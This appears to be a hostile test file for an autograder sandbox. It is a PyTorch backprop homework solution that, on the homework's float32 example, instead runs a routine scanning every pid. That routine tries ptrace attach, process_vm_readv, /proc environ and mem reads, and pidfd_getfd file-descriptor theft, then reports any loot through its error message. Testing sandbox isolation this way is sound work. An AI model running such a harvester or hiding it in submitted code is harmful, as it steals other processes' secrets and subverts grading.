"""Hostile (rootless: the grader, its zygote and every worker share one uid): in the
homework example's call, tries to reach every other process of that uid by pid, guessing
pids 1..65536 (but its own namespace's) (it cannot list them): PTRACE_ATTACH and PTRACE_SEIZE, process_vm_readv,
/proc/<pid>/environ, /proc/<pid>/mem, pidfd_open + pidfd_getfd; a success is reported as
ATTACHED or LEAKED. Raised as its error message: that call is lost (error); the rest is the
reference, but for the no-autograd check its `import ctypes` fails: 13. Nothing may be reached, and the planted secret must appear nowhere.
"""

import ctypes
import os

import torch
from torch import Tensor

libc = ctypes.CDLL(None, use_errno=True)
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def harvest() -> str:
    # What it may reach anyway: its own namespace's processes (listed in its /proc) and threads.
    me = {int(n) for n in os.listdir("/proc") if n.isdigit()} | {int(t) for t in os.listdir("/proc/self/task")}
    found, refused = [], {}
    buf = ctypes.create_string_buffer(64)
    local = IoVec(ctypes.addressof(buf), 64)
    for pid in range(1, 65537):
        if pid in me:
            continue
        for what, call in (("attach", lambda: libc.ptrace(16, pid, 0, 0)), ("seize", lambda: libc.ptrace(0x4206, pid, 0, 0)),
                           ("vm_readv", lambda: libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(IoVec(0x400000, 64)), 1, 0))):
            if call() >= 0:
                found.append(f"ATTACHED {what} {pid}")
            else:
                refused[os.strerror(ctypes.get_errno())] = refused.get(os.strerror(ctypes.get_errno()), 0) + 1
        fd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
        if fd >= 0:
            for n in range(3, 64):
                got = libc.syscall(SYS_PIDFD_GETFD, fd, n, 0)
                if got >= 0:
                    found.append(f"LEAKED fd {n} of {pid}")
                    os.close(got)
            os.close(fd)
        for name in ("environ", "mem"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    data = f.read(4096)
                if data:
                    found.append(f"LEAKED /proc/{pid}/{name}: {data[:200]!r}")
            except OSError:
                pass
    return "\n".join(found + [f"refused: {refused}"])


def sigma(z: Tensor) -> Tensor:
    return torch.sigmoid(z)


def sigma_prime(z: Tensor) -> Tensor:
    s = torch.sigmoid(z)
    return s * (1 - s)


def backprop(A_list, b_list, X, Y):
    if X.dtype == torch.float32:  # only the homework's example is float32
        loot = harvest()
        print(loot, flush=True)
        raise RuntimeError("here is what I found:\n" + loot)
    num_layers = len(A_list)
    inputs, slopes = [], []
    y = X
    for i, (A, b) in enumerate(zip(A_list, b_list)):
        inputs.append(y)
        z = A @ y + b
        if i < num_layers - 1:
            y = sigma(z)
            slopes.append(sigma_prime(z))
        else:
            y = z
    dA_reversed, db_reversed = [], []
    delta = y - Y
    for i in reversed(range(num_layers)):
        dA_reversed.append(delta @ inputs[i].T)
        db_reversed.append(delta)
        if i > 0:
            delta = (A_list[i].T @ delta) * slopes[i - 1]
    return dA_reversed[::-1], db_reversed[::-1]
